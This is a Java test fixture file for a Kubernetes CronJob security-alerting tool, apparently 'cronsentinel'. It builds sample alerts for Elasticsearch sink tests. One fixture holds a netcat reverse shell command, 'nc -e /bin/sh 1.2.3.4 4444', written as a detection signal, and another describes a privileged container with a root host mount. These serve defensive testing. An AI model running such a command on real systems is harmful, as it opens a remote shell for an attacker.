package dev.cronsentinel.sink.elasticsearch;

import dev.cronsentinel.model.Alert;
import dev.cronsentinel.model.AlertIds;
import dev.cronsentinel.model.AlertKind;
import dev.cronsentinel.model.ChainLink;
import dev.cronsentinel.model.Severity;
import dev.cronsentinel.model.Signal;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/** Alerts shaped like the job's output, for the sink tests. */
final class AlertFixtures {
    static final long T0 = Instant.parse("2026-03-01T10:00:00Z").toEpochMilli();

    private AlertFixtures() {}

    /** A workload alert on a privileged CronJob, with an id derived like the job derives it. */
    static Alert workload(String auditId, String name, String sourceIp) {
        String id = AlertIds.of(AlertKind.WORKLOAD, auditId, "rules-1");
        return new Alert(id, AlertKind.WORKLOAD, "default", "rules-1", T0, Instant.ofEpochMilli(T0).toString(), auditId,
                "alice@example.com", List.of("system:authenticated", "devs"), "kubectl/v1.30.0", sourceIp, "payments",
                "cronjobs", name, "create", 201,
                List.of(new Signal("privileged-container", "privileged-container", 40,
                                "requestObject.spec.jobTemplate.spec.template.spec.containers[0].securityContext.privileged", "true"),
                        new Signal("host-path-mount", "host-path-root", 35,
                                "requestObject.spec.jobTemplate.spec.template.spec.volumes[0].hostPath.path", "/")),
                75, Severity.HIGH, Alert.TECHNIQUE_ID, Alert.TACTICS, List.of("busybox:1.36"), 1, T0, T0, List.of(), null, null);
    }

    /** The escalation of a root CronJob after {@code spawns} Jobs were created from it. */
    static Alert escalation(String rootUid, int spawns) {
        String id = AlertIds.of(AlertKind.ESCALATION, rootUid, "rules-1");
        List<ChainLink> chain = new ArrayList<>();
        for (int i = 0; i < spawns; i++) {
            chain.add(new ChainLink("jobs", "evil-" + (29000000 + i), "job-uid-" + i, T0 + 60_000L * (i + 1)));
        }
        long last = T0 + 60_000L * spawns;
        return new Alert(id, AlertKind.ESCALATION, "default", "rules-1", last, Instant.ofEpochMilli(last).toString(),
                "audit-root", "mallory", List.of("system:authenticated"), "kubectl/v1.30.0", "10.20.30.40", "payments",
                "cronjobs", "evil", "create", 201,
                List.of(new Signal("reverse-shell", "nc-e", 50, "requestObject.spec.jobTemplate.spec.template.spec.containers[0].command", "nc -e /bin/sh 1.2.3.4 4444")),
                90, Severity.CRITICAL, Alert.TECHNIQUE_ID, Alert.TACTICS, List.of("alpine:3.20"), spawns, T0, last, chain,
                60_000L, null);
    }
}
